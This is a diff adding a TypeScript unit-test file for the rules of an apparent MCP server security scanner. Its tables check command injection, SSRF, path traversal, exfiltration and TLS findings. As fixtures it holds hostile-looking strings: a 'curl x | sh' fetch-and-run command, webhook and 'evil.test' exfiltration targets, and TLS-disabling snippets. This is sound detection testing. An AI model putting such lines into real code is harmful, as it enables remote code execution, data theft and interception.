@@ -1,0 +1,111 @@
+// Unit tables for the code rules: each rule is a filter over analyzer flows and facts, so these tables pin down the
+// filter (which origins, sinks, compositions, sanitizers and annotations fire) independently of the analyzers.
+import { describe, expect, test } from 'vitest';
+import type { CodeFact, TaintFlow, ToolDefinition } from '../scan/model.js';
+import type { FindingInput, Rule, RuleContext } from './create-rule.js';
+import { getRule } from './index.js';
+
+const at = { file: 'src/index.ts', line: 10, column: 3 };
+
+function flow(overrides: Partial<TaintFlow> & { sink: Partial<TaintFlow['sink']> }): TaintFlow {
+  return {
+    origin: { kind: 'tool-input', tool: 'run', param: 'value' },
+    composition: 'embedded',
+    steps: [],
+    sanitizers: [],
+    crossFile: false,
+    ...overrides,
+    sink: { kind: 'command', callee: 'exec', location: at, snippet: 'exec(cmd)', ...overrides.sink },
+  };
+}
+
+function tool(name: string, annotations?: Record<string, unknown>): ToolDefinition {
+  return { kind: 'tool', name, parameters: [], location: at, extractor: 'mcp-sdk', ...(annotations ? { annotations } : {}) };
+}
+
+function run(ruleId: string, input: { flows?: TaintFlow[]; facts?: CodeFact[]; tools?: ToolDefinition[] }): FindingInput[] {
+  const rule: Rule = getRule(ruleId)!;
+  expect(rule, ruleId).toBeDefined();
+  const reported: FindingInput[] = [];
+  const context: RuleContext = {
+    mode: 'fast',
+    workspace: { name: 'x', target: { kind: 'directory', input: '.', path: '.' } },
+    files: [],
+    manifests: [],
+    tools: input.tools ?? [tool('run')],
+    modelTexts: [],
+    flows: input.flows ?? [],
+    facts: input.facts ?? [],
+    report: (finding) => reported.push(finding),
+  };
+  rule.check(context);
+  return reported;
+}
+
+const severities = (findings: FindingInput[]) => findings.map((finding) => finding.severity ?? 'default');
+
+describe('flow rules', () => {
+  test.each([
+    ['command-injection', flow({ sink: { shell: true } }), ['critical']],
+    ['command-injection', flow({ sink: { shell: false, callee: 'execFile' } }), ['high']],
+    ['command-injection', flow({ sanitizers: ['execFile-argv'], sink: {} }), []],
+    ['command-injection', flow({ composition: 'whole', sink: {} }), []],
+    ['command-injection', flow({ origin: { kind: 'constant' }, sink: {} }), []],
+    ['unrestricted-shell-tool', flow({ composition: 'whole', sink: {} }), ['medium']],
+    ['code-injection', flow({ sink: { kind: 'code', callee: 'eval' } }), ['critical']],
+    ['code-injection', flow({ composition: 'whole', sink: { kind: 'code', callee: 'eval' } }), ['high']],
+    ['code-injection', flow({ composition: 'whole', sink: { kind: 'deserialize', callee: 'pickle.loads' } }), ['critical']],
+    ['path-traversal', flow({ sink: { kind: 'file-read', callee: 'readFile' } }), ['default']],
+    ['path-traversal', flow({ sink: { kind: 'file-read' }, sanitizers: ['realpath-containment'] }), []],
+    ['path-traversal', flow({ composition: 'whole', sink: { kind: 'file-read' } }), []],
+    ['unrestricted-filesystem-tool', flow({ composition: 'whole', sink: { kind: 'file-write', callee: 'writeFile' } }), ['medium']],
+    ['unrestricted-filesystem-tool', flow({ composition: 'whole', sink: { kind: 'file-read', callee: 'readFile' } }), ['low']],
+    ['ssrf', flow({ composition: 'whole', sink: { kind: 'network', callee: 'fetch' } }), ['default']],
+    ['ssrf', flow({ sink: { kind: 'network' }, sanitizers: ['fixed-host'] }), []],
+    ['sql-injection', flow({ sink: { kind: 'sql', callee: 'db.query' } }), ['default']],
+    ['sql-injection', flow({ composition: 'whole', sink: { kind: 'sql' } }), []],
+    ['sensitive-data-exfiltration', flow({ origin: { kind: 'env', detail: 'process.env' }, sink: { kind: 'network-send', callee: 'fetch' } }), ['critical']],
+    ['sensitive-data-exfiltration', flow({ origin: { kind: 'env' }, sink: { kind: 'network', callee: 'fetch' } }), ['high']],
+    ['sensitive-data-exfiltration', flow({ sink: { kind: 'network-send' } }), []],
+    ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'network-send', target: 'https://webhook.site/abc' } }), ['default']],
+    ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'network-send', target: 'https://discord.com/api/webhooks/1/x' } }), ['default']],
+    ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'network-send', target: 'https://discord.com/api/v10/channels' } }), []],
+    ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'network-send', target: 'https://api.weather.gov/points' } }), []],
+    ['hardcoded-exfil-endpoint', flow({ sink: { kind: 'email', target: 'x@evil.test', snippet: "sendMail({ to, bcc: 'x@evil.test' })" } }), ['default']],
+    ['decoded-payload-execution', flow({ origin: { kind: 'decoded-constant', detail: 'curl x | sh' }, sink: {} }), ['default']],
+  ] as const)('%s on %j → %j', (ruleId, input, expected) => {
+    expect(severities(run(ruleId, { flows: [input as TaintFlow] }))).toEqual(expected);
+  });
+
+  test('annotations decide the excessive-capability severity', () => {
+    const shell = flow({ composition: 'whole', sink: {} });
+    expect(severities(run('unrestricted-shell-tool', { flows: [shell], tools: [tool('run', { destructiveHint: true })] }))).toEqual([]);
+    expect(severities(run('unrestricted-shell-tool', { flows: [shell], tools: [tool('run', { readOnlyHint: true })] }))).toEqual(['high']);
+  });
+});
+
+describe('fact rules', () => {
+  const fact = (kind: CodeFact['kind'], detail?: string, snippet = 'x'): CodeFact => ({ kind, location: at, snippet, ...(detail ? { detail } : {}) });
+
+  test.each([
+    ['http-transport-exposed', [fact('mcp-http-transport'), fact('http-listen', 'default')], 1],
+    ['http-transport-exposed', [fact('mcp-http-transport'), fact('http-listen', '0.0.0.0')], 1],
+    ['http-transport-exposed', [fact('mcp-http-transport'), fact('http-listen', '127.0.0.1')], 0],
+    ['http-transport-exposed', [fact('mcp-http-transport'), fact('http-listen', '0.0.0.0'), fact('auth-middleware')], 0],
+    ['http-transport-exposed', [fact('http-listen', '0.0.0.0')], 0],
+    ['missing-origin-validation', [fact('mcp-http-transport')], 1],
+    ['missing-origin-validation', [fact('mcp-http-transport'), fact('origin-check')], 0],
+    ['cors-wildcard', [fact('cors-wildcard')], 1],
+    ['tls-verification-disabled', [fact('tls-verification-disabled', undefined, 'rejectUnauthorized: false')], 1],
+    ['decoded-payload-execution', [fact('dynamic-require', 'decoded: child_process')], 1],
+    ['decoded-payload-execution', [fact('dynamic-require', undefined, 'import(pluginPath)')], 0],
+  ] as const)('%s with %j facts → %d findings', (ruleId, facts, count) => {
+    expect(run(ruleId, { facts: [...facts] })).toHaveLength(count);
+  });
+
+  test('process-wide TLS disabling is high, a single client is medium', () => {
+    expect(severities(run('tls-verification-disabled', { facts: [fact('tls-verification-disabled', undefined, "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'")] }))).toEqual(['high']);
+    expect(severities(run('tls-verification-disabled', { facts: [fact('tls-verification-disabled', undefined, 'new Agent({ connect: { rejectUnauthorized: false } })')] }))).toEqual(['medium']);
+  });
+});
+
